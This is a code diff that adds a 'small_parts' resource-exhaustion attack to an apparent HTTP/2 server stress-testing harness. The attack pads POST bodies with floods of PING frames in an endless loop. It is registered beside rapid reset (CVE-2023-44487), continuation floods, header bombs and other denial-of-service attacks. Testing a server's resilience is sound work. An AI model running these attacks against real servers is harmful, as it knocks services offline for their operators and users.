@@ -297,6 +297,20 @@ async def full_windows(target, counts):
     await http2(target, counts, 300, act, (INITIAL_WINDOW_SIZE, 0), receive_buffer=4096)
 
 
+async def small_parts(target, counts):
+    """10 connections with 100 POSTs each, which get 600 bytes of body in every 64 KiB: the rest are frames without effect."""
+    filler = frame(PING, ACK, 0, bytes(8)) * 3800
+
+    async def act(c):
+        await c.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, head("POST", "/echo")) for i in range(100)))
+        while True:
+            for i in range(100):
+                await c.send(frame(DATA, 0, 2 * i + 1, bytes(600)) + filler)
+            await asyncio.sleep(0.01)
+
+    await http2(target, counts, 10, act)
+
+
 async def rapid_reset(target, counts):
     """10 connections that open requests and reset them at once (CVE-2023-44487)."""
 
@@ -447,7 +461,7 @@ ATTACKS = {
     function.__name__.replace("_", "-"): function
     for function in (
         slow_heads, half_open_http1, slow_bodies_http1, slow_readers_http1, idle_connections, large_heads, half_open_http2, slow_bodies_http2,
-        slow_readers_http2, full_windows, rapid_reset, made_you_reset, tunnel_trailers, continuation_flood, header_bomb, frame_floods, worker_port,
+        slow_readers_http2, full_windows, small_parts, rapid_reset, made_you_reset, tunnel_trailers, continuation_flood, header_bomb, frame_floods, worker_port,
         admin_port, flood, slowhttptest)
 }
 
